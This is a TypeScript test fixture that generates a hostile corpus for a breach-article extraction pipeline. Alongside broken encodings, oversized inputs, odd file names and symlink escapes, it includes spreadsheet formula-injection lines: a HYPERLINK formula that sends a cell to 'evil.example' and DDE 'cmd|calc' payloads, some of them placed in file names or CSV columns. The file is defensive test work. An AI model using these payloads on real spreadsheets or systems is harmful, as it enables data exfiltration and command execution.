import Encoding from "encoding-japanese";
import iconv from "iconv-lite";
import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join, resolve } from "node:path";
import type { ProblemCode } from "../../src/types.js";

/**
 * The hostile corpus: every kind of file a scraped corpus holds that could crash, hang or fool the
 * pipeline, made at test time (no committed binaries). Each case says what it holds and how it
 * must end, so one table drives the tests and the list in docs/hostile.md.
 */

/** A short English breach article in our own words (never copied from the dev corpus). */
export const EN_ARTICLE = [
  "Acme Widgets Inc. said on March 3, 2024 that hackers stole the names and email addresses of 12,000 customers.",
  "The company discovered the intrusion on February 20, 2024 and paid $50,000 to investigators.",
  "Passwords were not affected, the company said.",
].join("\n");

/** The same kind of article in Japanese, with CP932-only characters (① and ㈱). */
export const JA_ARTICLE = [
  "㈱テスト商事は2024年3月5日、不正アクセスにより顧客約1万2千人分の氏名とメールアドレスが流出した可能性があると発表した。",
  "①同社は2月20日に不審な通信を確認し、調査を開始した。",
  "クレジットカード情報は含まれていないという。",
].join("\n");

/** JA_ARTICLE without the CP932-only characters, for EUC-JP and ISO-2022-JP, which lack them. */
export const JA_PLAIN = JA_ARTICLE.replace(/㈱/g, "株式会社").replace(/①/g, "");

/** English with Latin-1 letters, as a French or German site would save it. */
export const LATIN_ARTICLE = "Café Müller GmbH said on May 2, 2024 that the names of 3,400 customers were exposed. Señor García confirmed the breach.";

/** How a case must end: a record (optionally with a warning row), a problem row, or neither (not an article). */
export type Outcome = { record: true; warning?: ProblemCode; encoding?: string } | { problem: ProblemCode } | { unlisted: true };

export interface HostileCase {
  /** Path under the corpus root, as it appears in the `source` column and in problems.csv. */
  rel: string;
  /** What the file holds, for the report. */
  what: string;
  outcome: Outcome;
  /**
   * Set when an extractor is known to be slow on this input (an open bug in files this suite does
   * not own): the run may end it with TIMEOUT instead. Names the extractor.
   */
  knownSlow?: string;
  /** Makes the file (or link, or pipe) under `root`; `outside` is a folder beside the root. */
  make(abs: string, ctx: { root: string; outside: string }): void;
}

const bytes = (b: Uint8Array | string) => (abs: string) => writeFileSync(abs, b);
const ja2022 = (s: string) => Buffer.from(Encoding.convert(Encoding.stringToCode(s), { to: "JIS", from: "UNICODE" }) as number[]);

/** UTF-8 Japanese text with `n` invalid bytes (lone 0xFF) spread through it. */
export function utf8WithBadBytes(text: string, n: number): Buffer {
  const parts: Buffer[] = [];
  const lines = Array.from({ length: Math.max(n, 1) * 2 }, () => text).join("\n").split("\n");
  lines.forEach((line, i) => {
    parts.push(Buffer.from(line + "\n", "utf8"));
    if (i < n) parts.push(Buffer.from([0xff]));
  });
  return Buffer.concat(parts);
}

/** Deterministic pseudo-random bytes (a linear congruential generator: no seed from the clock). */
export function noise(n: number, from = 0x80, seed = 7): Buffer {
  const b = Buffer.alloc(n);
  let x = seed;
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    b[i] = from + ((x >>> 16) % (256 - from));
  }
  return b;
}

/** The pathological inputs of the "bounded work" rule, as text. Sizes are the issue's. */
export const HEAVY = {
  /** 3 MB of one line without a space. */
  longLine: () => "a".repeat(1_000_000) + "漏".repeat(333_333) + "9".repeat(1_000_000),
  /** 200,000 commas between digits: what a number grammar may backtrack on. */
  commas: () => "1" + ",1".repeat(200_000) + " customers were affected.",
  /** 200,000 kanji numerals in a row, for the Japanese number parser. */
  kanji: () => "顧客" + "一二三四五六七八九十百千万億兆".repeat(13_334).slice(0, 200_000) + "人分の情報が流出した。",
  /** 50,000 nested <div>s around one sentence. */
  divs: () => "<!doctype html><html><body>" + "<div>".repeat(50_000) + EN_ARTICLE + "</div>".repeat(50_000) + "</body></html>",
  /** A 10 MB article: the English article repeated, one paragraph a line. */
  tenMB: () => {
    const para = EN_ARTICLE + "\n";
    return para.repeat(Math.ceil((10 * 1024 * 1024) / para.length));
  },
};

/** Text a spreadsheet would run as a formula, one line per dangerous first character. */
export const FORMULA_LINES = [
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\tTabbed line said Evil Corp was breached.",
];

/** Every case of the hostile corpus. Paths with odd names are the point of some cases. */
export const CASES: HostileCase[] = [
  { rel: "empty.txt", what: "a file of zero bytes", outcome: { problem: "EMPTY" }, make: bytes("") },
  { rel: "blank.txt", what: "only spaces, tabs and newlines", outcome: { problem: "EMPTY" }, make: bytes(" \t\n\n   \r\n") },
  { rel: "report.pdf.txt", what: "a PDF saved as .txt", outcome: { problem: "BINARY" }, make: bytes(Buffer.concat([Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", "latin1"), noise(2000, 0)])) },
  { rel: "archive.txt", what: "a ZIP archive (NUL bytes)", outcome: { problem: "BINARY" }, make: bytes(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0]), noise(4000, 0)])) },
  { rel: "image.html", what: "a PNG image saved as .html", outcome: { problem: "BINARY" }, make: bytes(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), noise(3000, 0)])) },
  { rel: "garbage.txt", what: "random bytes 0x80-0xFF: no encoding makes text of it", outcome: { problem: "DECODE" }, make: bytes(noise(6000)) },
  { rel: "utf16-broken.txt", what: "a UTF-16LE byte-order mark followed by unpaired surrogates", outcome: { problem: "DECODE" }, make: bytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("\ud800x".repeat(500), "utf16le")])) },
  { rel: "scripts-only.html", what: "a page whose only text is in <script> and <style>", outcome: { problem: "EMPTY" }, make: bytes("<!doctype html><html><head><style>body{}</style></head><body><script>document.write('Acme breached')</script></body></html>") },
  { rel: "enc/utf8.txt", what: "UTF-8 English", outcome: { record: true, encoding: "UTF-8" }, make: bytes(EN_ARTICLE) },
  { rel: "enc/utf8-bom.txt", what: "UTF-8 Japanese with a byte-order mark", outcome: { record: true, encoding: "UTF-8 BOM" }, make: bytes(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JA_ARTICLE)])) },
  { rel: "enc/utf16le.txt", what: "UTF-16LE Japanese with a byte-order mark", outcome: { record: true, encoding: "UTF-16LE" }, make: bytes(Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(JA_ARTICLE, "utf-16le")])) },
  { rel: "enc/utf16be.txt", what: "UTF-16BE Japanese with a byte-order mark", outcome: { record: true, encoding: "UTF-16BE" }, make: bytes(Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(JA_ARTICLE, "utf-16be")])) },
  { rel: "enc/cp932.txt", what: "Shift_JIS (CP932) Japanese with ① and ㈱", outcome: { record: true, encoding: "Shift_JIS" }, make: bytes(iconv.encode(JA_ARTICLE, "cp932")) },
  { rel: "enc/eucjp.txt", what: "EUC-JP Japanese", outcome: { record: true, encoding: "EUC-JP" }, make: bytes(iconv.encode(JA_PLAIN, "euc-jp")) },
  { rel: "enc/iso2022jp.txt", what: "ISO-2022-JP (7-bit JIS) Japanese", outcome: { record: true, encoding: "ISO-2022-JP" }, make: bytes(ja2022(JA_PLAIN)) },
  { rel: "enc/latin1.txt", what: "ISO-8859-1 English with accented letters", outcome: { record: true, encoding: "windows-1252" }, make: bytes(iconv.encode(LATIN_ARTICLE, "latin1")) },
  { rel: "enc/utf8-few-bad.txt", what: "UTF-8 Japanese with 2 invalid bytes", outcome: { record: true, encoding: "UTF-8" }, make: bytes(utf8WithBadBytes(JA_ARTICLE, 2)) },
  { rel: "enc/utf8-many-bad.txt", what: "UTF-8 Japanese with 40 invalid bytes", outcome: { record: true, encoding: "UTF-8", warning: "DECODE" }, make: bytes(utf8WithBadBytes(JA_ARTICLE, 40)) },
  { rel: "heavy/long-line.txt", what: "a 3 MB line without a space (cut in the middle of the line)", outcome: { record: true, warning: "TOO_LARGE" }, make: bytes(HEAVY.longLine()) },
  { rel: "heavy/commas.txt", what: "200,000 commas between digits", outcome: { record: true }, make: bytes(HEAVY.commas()) },
  {
    rel: "heavy/kanji.txt",
    what: "200,000 kanji numerals in a row",
    outcome: { record: true },
    make: bytes(HEAVY.kanji()),
  },
  { rel: "heavy/divs.html", what: "50,000 nested <div>s", outcome: { record: true }, make: bytes(HEAVY.divs()) },
  { rel: "heavy/ten-mb.txt", what: "a 10 MB article (over the --max-bytes the test run sets)", outcome: { record: true, warning: "TOO_LARGE" }, make: bytes(HEAVY.tenMB()) },
  {
    rel: "markup/script-style.html",
    what: "a page with <script>, <style>, <noscript>, comments, entities and an unclosed <head>",
    outcome: { record: true },
    make: bytes(
      "<!DOCTYPE html><html><head><title>SECRET-TITLE</title><style>.x{content:'SECRET-STYLE'}</style>" +
        "<script>var s = 'SECRET-SCRIPT </p> =cmd';</script><body><!-- SECRET-COMMENT -->" +
        "<noscript>SECRET-NOSCRIPT</noscript><p>Acme &amp; Sons Ltd. said on March 3, 2024 that names of 5,000 customers were stolen.</p>" +
        "<p>Losses reached &pound;20,000 &mdash; &#x201C;quoted&#x201D; &lt;b&gt;</p><SCRIPT type=module>SECRET-SCRIPT2</SCRIPT></body></html>",
    ),
  },
  { rel: "formula.txt", what: "lines that start with = + - @ and a tab", outcome: { record: true }, make: bytes([...FORMULA_LINES, EN_ARTICLE].join("\n")) },
  { rel: "names/a,b.txt", what: "a comma in the file name", outcome: { record: true }, make: bytes(EN_ARTICLE) },
  { rel: 'names/say "hi".txt', what: "double quotes in the file name", outcome: { record: true }, make: bytes(EN_ARTICLE) },
  { rel: "names/two\nlines.txt", what: "a newline in the file name", outcome: { record: true }, make: bytes(EN_ARTICLE) },
  { rel: "names/情報流出の記事.txt", what: "a Japanese file name", outcome: { record: true }, make: bytes(JA_ARTICLE) },
  { rel: "=cmd|' -c calc'!A0.txt", what: "a file name that is a formula", outcome: { record: true }, make: bytes(EN_ARTICLE) },
  { rel: "-rf.txt", what: "a file name starting with a minus", outcome: { record: true }, make: bytes(EN_ARTICLE) },
  { rel: "links/inside.txt", what: "a symbolic link to a file inside the root", outcome: { record: true }, make: (abs) => symlinkSync("../enc/utf8.txt", abs) },
  { rel: "links/outside.txt", what: "a symbolic link to a file outside the root", outcome: { problem: "LINK" }, make: (abs, c) => symlinkSync(join(resolve(c.outside), "secret.txt"), abs) },
  { rel: "links/outside-dir", what: "a symbolic link to a folder outside the root", outcome: { problem: "LINK" }, make: (abs, c) => symlinkSync(resolve(c.outside), abs) },
  { rel: "links/broken.txt", what: "a dangling symbolic link", outcome: { problem: "LINK" }, make: (abs) => symlinkSync("no-such-file.txt", abs) },
  { rel: "links/loop", what: "a link to its own parent folder (a loop)", outcome: { problem: "LINK" }, make: (abs) => symlinkSync("..", abs) },
  { rel: "links/self-loop", what: "a link to itself", outcome: { problem: "LINK" }, make: (abs) => symlinkSync("self-loop", abs) },
  { rel: "links/sibling", what: "a link to another folder inside the root (read there, not twice)", outcome: { unlisted: true }, make: (abs) => symlinkSync("../enc", abs) },
  { rel: "pipe.txt", what: "a named pipe with an article's name (reading it would block)", outcome: { problem: "READ" }, make: (abs) => execFileSync("mkfifo", [abs]) },
];

/** metadata.csv of the hostile corpus: good rows and malformed ones. Line numbers are the file's. */
export const METADATA = [
  "file,published,url", // line 1
  "enc/utf8.txt,2024-03-04,https://example.com/a", // 2: good
  "enc/cp932.txt,2024-13-45,https://example.com/b", // 3: bad date
  "no/such/file.txt,2024-03-04,https://example.com/c", // 4: unknown file
  '"enc/eucjp.txt,2024-03-04,"https://example.com/"d', // 5: broken quoting
  "formula.txt,2024-03-01,=HYPERLINK(\"http://evil.example\")", // 6: good, a formula in a column
  "enc/utf8.txt,2024-03-05,https://example.com/dup", // 7: the same file twice
  "enc/latin1.txt,,https://example.com/e", // 8: good, no date
  '"enc/iso2022jp.txt,2024-03-04,https://example.com/f', // 9: a quote never closed
  "enc/utf16le.txt,2024-03-06,\"https://example.com/g\nsecond line\"", // 10-11: good, a quoted line break
  "enc/utf16be.txt,2024/03/07,https://example.com/h", // 12: bad date format
].join("\n") + "\n";

/** The lines of METADATA that must be reported, and a word their reason holds. */
export const METADATA_BAD: Array<[line: number, reason: RegExp]> = [
  [3, /not a YYYY-MM-DD date/],
  [4, /no article/],
  [5, /no article|quot/],
  [7, /named again/],
  [9, /broken CSV quoting/],
  [12, /not a YYYY-MM-DD date/],
];

/** The rows of METADATA that apply, with their published date. */
export const METADATA_GOOD: Array<[file: string, published: string | null]> = [
  ["enc/utf8.txt", "2024-03-04"],
  ["formula.txt", "2024-03-01"],
  ["enc/latin1.txt", null],
  ["enc/utf16le.txt", "2024-03-06"],
];

/** Options of the CLI run over the hostile corpus: a size limit the 3 MB and 10 MB files exceed (kept small so the run is quick). */
export const RUN_ARGS = ["--max-bytes", "700000", "--workers", "2"];

/**
 * Writes the hostile corpus into `root` (a fresh folder), with `outside` beside it holding what the
 * outward links point to. Returns the cases made.
 */
export function generateCorpus(root: string, outside: string, cases: HostileCase[] = CASES): HostileCase[] {
  mkdirSync(root, { recursive: true });
  mkdirSync(outside, { recursive: true });
  writeFileSync(join(outside, "secret.txt"), "SECRET-OUTSIDE Evil Corp leaked 1,000 passwords.\n");
  for (const c of cases) {
    const abs = join(root, c.rel);
    mkdirSync(dirname(abs), { recursive: true });
    c.make(abs, { root, outside });
  }
  writeFileSync(join(root, "metadata.csv"), METADATA);
  return cases;
}
